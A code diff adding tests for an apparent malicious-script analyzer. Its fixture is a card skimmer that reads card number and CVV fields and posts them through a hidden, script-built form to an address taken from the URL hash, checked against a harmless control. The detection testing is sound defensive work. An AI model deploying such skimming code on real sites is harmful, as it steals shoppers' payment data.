@@ -252,3 +252,28 @@ describe('style text that loads what it builds', () => {
     expect(analyzeScript(theme).triage ?? []).not.toContain(reason)
   })
 })
+
+describe('a form the script builds and posts', () => {
+  // the action is read at run time: only the values the script wrote into the form tell
+  const helper = (call: string): string => `var Relay = {
+    post: function (fields) {
+      var f = document.createElement('form'); f.method = 'post'; f.action = location.hash.slice(1)
+      for (var k in fields) { var i = document.createElement('input'); i.type = 'hidden'; i.name = k; i.value = fields[k]; f.appendChild(i) }
+      document.body.appendChild(f); f.submit()
+    } }
+    document.addEventListener('click', function () { ${call} })`
+  const card = `{ n: document.querySelector('#cc-number').value, c: document.querySelector('#cvv').value }`
+  const rulesOf = (source: string): string[] =>
+    analyzeScript(source, { url: null })
+      .findings.filter((f) => f.points > 0)
+      .map((f) => f.rule)
+
+  it("carries what the script wrote into its hidden inputs, handed to an object's method", () => {
+    expect(rulesOf(helper(`Relay.post(${card})`))).toContain('card-field-read-and-send')
+  })
+  it('not when the inputs hold nothing read from the page', () => {
+    expect(rulesOf(helper(`Relay.post({ n: 'gift', c: 'wrap' })`))).not.toContain(
+      'card-field-read-and-send',
+    )
+  })
+})
